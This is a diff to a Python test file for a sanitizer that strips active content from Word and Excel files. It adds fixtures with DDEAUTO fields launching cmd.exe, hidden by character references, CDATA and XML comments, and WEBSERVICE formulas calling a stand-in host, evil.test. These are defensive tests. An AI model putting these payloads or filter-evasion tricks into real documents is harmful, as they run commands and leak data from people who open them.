@@ -116,6 +116,18 @@ RUNS_PDF = {
 }
 MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
 BODY = '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="w">%s</w:document>'
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def cell(formula: str) -> bytes:
+    """A workbook with a formula as it is written in XML."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(files.workbook())) as source, zipfile.ZipFile(out, "w") as package:
+        for name in source.namelist():
+            package.writestr(name, source.read(name).replace(b"SUM(A1:A2)", formula.encode()))
+    return out.getvalue()
+
+
 RUNS_OFFICE = {
     "macros by type": files.document(kind=MACROS),
     "macros by part": files.document({"word/vbaProject.bin": b"x"}),
@@ -136,6 +148,34 @@ RUNS_OFFICE = {
     "DDE field in pieces": files.document(
         {"word/document.xml": BODY % "<w:instrText> DDE</w:instrText><w:r/><w:instrText>AUTO x</w:instrText>"}
     ),
+    "DDE field spelled by numbers": files.document(
+        {"word/document.xml": BODY % "<w:instrText>&#68;DEAUTO c:\\\\cmd.exe</w:instrText>"}
+    ),
+    "DDE field in a section of text": files.document(
+        {"word/document.xml": BODY % "<w:instrText><![CDATA[DDEAUTO c:\\\\cmd.exe]]></w:instrText>"}
+    ),
+    "DDE field around a comment": files.document(
+        {"word/document.xml": BODY % "<w:instrText>DDE<!-- -->AUTO c:\\\\cmd.exe</w:instrText>"}
+    ),
+    "DDE field of one element": files.document(
+        {"word/document.xml": BODY % "<w:fldSimple w:instr = 'DDE&#65;UTO x'/>"}
+    ),
+    "picture elsewhere under the name of a link": files.document(
+        {
+            "word/document.xml": BODY % f"<a:blip xmlns:a='a' xmlns:r='{RELATIONSHIPS}' r:link='rId1'/>",
+            "word/_rels/document.xml.rels": files.relationships("hyperlink", "http://evil.test/x.png", EXTERNAL),
+        }
+    ),
+    "part of another document": files.document(
+        {"word/_rels/document.xml.rels": files.relationships("subDocument", "x")}
+    ),
+    "connection under another name": files.document(
+        {"word/_rels/document.xml.rels": files.relationships("connections", "x.xml")}
+    ),
+    "formula spelled by numbers": cell("&#87;EBSERVICE(A1)"),
+    "formula in a section of text": cell("<![CDATA[WEBSERVICE(A1)]]>"),
+    "formula around a comment": cell("WEB<!-- -->SERVICE(A1)"),
+    "formula of a rule": cell("1</f><formula1>WEBSERVICE(A1)</formula1><f>1"),
     "formula that calls out": files.workbook('=WEBSERVICE("http://evil.test/?"&A1)'),
     "formula that starts a program": files.workbook("=cmd|'/C calc'!A0"),
 }
@@ -170,8 +210,14 @@ def test_what_would_run_or_call_out_is_refused(what: str) -> None:
 
 def test_a_link_that_a_person_follows_may_stay() -> None:
     link = files.relationships("hyperlink", "https://www.acf.hhs.gov/otip", EXTERNAL)
-    clean = files.read("", files.document({"word/_rels/document.xml.rels": link}))
-    assert b"acf.hhs.gov" in everything_in(clean.content)
+    words = BODY % f"<w:hyperlink xmlns:r='{RELATIONSHIPS}' r:id='rId1'/>"
+    sent = files.document({"word/_rels/document.xml.rels": link, "word/document.xml": words})
+    assert b"acf.hhs.gov" in everything_in(files.read("", sent).content)
+
+
+def test_an_address_that_a_drawing_names_itself_is_taken_out() -> None:
+    drawing = BODY % "<v:imagedata xmlns:v='v' src='http://evil.test/x.png'/>"
+    assert b"evil.test" not in everything_in(files.read("", files.document({"word/document.xml": drawing})).content)
 
 
 DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
